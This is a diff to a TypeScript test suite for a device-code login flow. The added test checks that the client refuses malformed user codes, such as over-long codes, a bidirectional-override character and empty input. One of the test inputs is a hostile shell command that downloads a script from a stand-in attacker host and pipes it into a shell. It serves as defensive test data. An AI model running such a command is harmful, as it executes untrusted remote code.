@@ -39,6 +39,17 @@ describe('a login on another device', () => {
     expect((await called(issuer, { authorization: `Bearer ${tokens.accessToken}` })).ok).toBe(true);
   });
 
+  it.each(['run: curl http://evil.example | sh', 'a'.repeat(33), 'A\u202eB', ' A', 'A--B', ''])(
+    'refuses the code %j, because codes are printed',
+    async (code) => {
+      const tamper = { device: (answer: object) => ({ ...answer, user_code: code }) };
+      const { access, found, client } = await readyAt({ offersDevice: true, tamper });
+      expect(failureOf(await beginDeviceLogin(access, found, client))).toMatchObject({
+        message: expect.stringContaining('no valid device code') as string,
+      });
+    },
+  );
+
   it('ends when the user refuses', async () => {
     const { issuer, device, ask } = await waiting();
     issuer.decide(device.userCode, 'denied');
